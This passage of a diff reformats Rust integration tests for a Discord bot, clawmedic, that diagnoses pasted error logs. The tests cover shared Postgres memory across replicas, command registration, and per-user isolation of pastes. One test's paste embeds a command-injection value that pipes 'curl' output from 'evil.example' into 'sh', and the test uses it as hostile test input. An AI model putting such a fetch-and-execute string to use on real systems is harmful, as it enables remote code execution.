+        diagnose(1_310_000_000_000_001_060, 1_310_000_000_000_002_060, "en-US", PROBE_PASTE);
     let (s, v) = send_json(&app, signed_request(&signing_key(), now(), body_of(&payload))).await;
     assert_eq!((s, v["type"].clone()), (StatusCode::OK, json!(4)));
     let m = st.metrics.encode();
@@ -706,12 +887,22 @@ fn pg_url() -> Option<String> {
 async fn two_replicas_share_thread_memory_through_postgres() {
     let Some(url) = pg_url() else { return };
     // Two replicas: two routers, each with its own connection pool and its own state.
-    let a = state(config("http://127.0.0.1:9"), clawmedic::store::connect(&url).await.expect("replica A connects"));
-    let b = state(config("http://127.0.0.1:9"), clawmedic::store::connect(&url).await.expect("replica B connects"));
+    let a = state(
+        config("http://127.0.0.1:9"),
+        clawmedic::store::connect(&url).await.expect("replica A connects"),
+    );
+    let b = state(
+        config("http://127.0.0.1:9"),
+        clawmedic::store::connect(&url).await.expect("replica B connects"),
+    );
     let (ra, rb) = (app(&a), app(&b));
     // A channel no earlier run used.
-    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos() as u64;
-    let channel = 1_400_000_000_000_000_000 + (nanos % 1_000_000_000_000) * 1000 + u64::from(std::process::id() % 1000);
+    let nanos =
+        std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos()
+            as u64;
+    let channel = 1_400_000_000_000_000_000
+        + (nanos % 1_000_000_000_000) * 1000
+        + u64::from(std::process::id() % 1000);
     let mut id = 1_320_000_000_000_000_000 + (nanos % 1_000_000_000);
     let mut next = |paste: &str| {
         id += 1;
@@ -722,7 +913,11 @@ async fn two_replicas_share_thread_memory_through_postgres() {
     assert_eq!(s, StatusCode::OK);
     assert_ne!(footer(&r1), "clawmedic · session_pin_stale · en");
     let (_, r2) = send_json(&rb, next(PROBE_ONLY)).await;
-    assert_eq!(footer(&r2), "clawmedic · session_pin_stale · en", "replica B read replica A's memory");
+    assert_eq!(
+        footer(&r2),
+        "clawmedic · session_pin_stale · en",
+        "replica B read replica A's memory"
+    );
     assert!(r2.to_string().contains(PIN));
     let (_, _) = send_json(&ra, next(VERSION_LINE)).await;
     let (_, _) = send_json(&rb, next(AUTH_ORDER)).await;
@@ -735,10 +930,15 @@ async fn two_replicas_share_thread_memory_through_postgres() {
     }
     // Nothing lost: ten messages, each with its evidence, numbered 1..=10.
     let check = clawmedic::store::connect(&url).await.unwrap();
-    let mem = check.load(&ThreadKey::discord(channel)).await.unwrap().expect("the thread is remembered");
+    let mem =
+        check.load(&ThreadKey::discord(channel)).await.unwrap().expect("the thread is remembered");
     assert_eq!(mem.messages, 10, "every message of both replicas is remembered");
     for n in 1..=10 {
-        assert!(mem.facts.iter().any(|f| f.loc.message == n), "message {n} has its evidence: {:?}", mem.facts);
+        assert!(
+            mem.facts.iter().any(|f| f.loc.message == n),
+            "message {n} has its evidence: {:?}",
+            mem.facts
+        );
     }
     assert_eq!(mem.version.as_deref(), Some("2026.5.12"));
     let m = format!("{}{}", a.metrics.encode(), b.metrics.encode());
@@ -753,13 +953,19 @@ async fn serve_registers_the_gateway_bots_commands_when_it_has_a_token() {
     let hook = FakeWebhook::start().await;
     let mut cfg = config(&hook.base);
     let client = reqwest::Client::new();
-    assert!(!clawmedic::http::register_commands(&cfg, &client).await.unwrap(), "no token: nothing to do");
+    assert!(
+        !clawmedic::http::register_commands(&cfg, &client).await.unwrap(),
+        "no token: nothing to do"
+    );
     cfg.discord_token = Some(clawmedic::config::Secret::new("test-token"));
     cfg.dev_guild_id = Some(GUILD_ID);
     assert!(clawmedic::http::register_commands(&cfg, &client).await.unwrap());
     let hits = hook.hits();
     assert_eq!(hits.len(), 1);
-    assert_eq!((hits[0].method.as_str(), hits[0].path.clone()), ("PUT", format!("/api/v10/applications/{APP_ID}/guilds/{GUILD_ID}/commands")));
+    assert_eq!(
+        (hits[0].method.as_str(), hits[0].path.clone()),
+        ("PUT", format!("/api/v10/applications/{APP_ID}/guilds/{GUILD_ID}/commands"))
+    );
     assert_eq!(hits[0].body, clawmedic::discord::interactions::command_definitions(&cfg.settings));
 }
 
@@ -779,12 +985,14 @@ async fn two_users_in_one_text_channel_never_see_each_others_paste() {
     let (alice, bob) = (USER_ID, USER_ID + 1);
     let a_paste = format!("{PROBE_PASTE}\nUnknown provider \"x;{{curl,-s,evil.example}}|sh\". Loaded providers: openai");
     let a = as_user(diagnose(1_310_000_000_000_001_071, channel, "en-US", &a_paste), alice);
-    let (status, a_reply) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&a))).await;
+    let (status, a_reply) =
+        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&a))).await;
     assert_eq!(status, StatusCode::OK);
     assert!(a_reply.to_string().contains(PIN), "A's reply uses A's paste");
     let benign = "⚠️ Model login expired on the gateway for openai-codex. Re-auth with `openclaw models auth login --provider openai-codex`, then try again.";
     let b = as_user(diagnose(1_310_000_000_000_001_072, channel, "en-US", benign), bob);
-    let (_, b_reply) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&b))).await;
+    let (_, b_reply) =
+        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&b))).await;
     // Exactly what a bot with no memory answers for B's paste.
     let stateless = Deps::new(Arc::new(MemoryStore::new()), BotSettings::default());
     assert_eq!(b_reply, handle_interaction(&stateless, &b).await.response);
@@ -792,11 +1000,16 @@ async fn two_users_in_one_text_channel_never_see_each_others_paste() {
         assert!(!b_reply.to_string().contains(leaked), "{leaked} of A's paste in B's reply");
     }
     let ac = as_user(autocomplete_profile(1_310_000_000_000_001_073, channel, ""), bob);
-    let (_, choices) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ac))).await;
+    let (_, choices) =
+        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ac))).await;
     assert_eq!(choices, json!({ "type": 8, "data": { "choices": [] } }));
     let ac = as_user(autocomplete_profile(1_310_000_000_000_001_074, channel, ""), alice);
-    let (_, choices) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ac))).await;
-    assert!(!choices["data"]["choices"].as_array().unwrap().is_empty(), "A sees A's profiles: {choices}");
+    let (_, choices) =
+        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ac))).await;
+    assert!(
+        !choices["data"]["choices"].as_array().unwrap().is_empty(),
+        "A sees A's profiles: {choices}"
+    );
     let key = |u| clawmedic::discord::conversation::key_for(channel, false, Some(u)).unwrap();
     assert_eq!(st.store.load(&key(alice)).await.unwrap().unwrap().messages, 1);
     assert_eq!(st.store.load(&key(bob)).await.unwrap().unwrap().messages, 1);
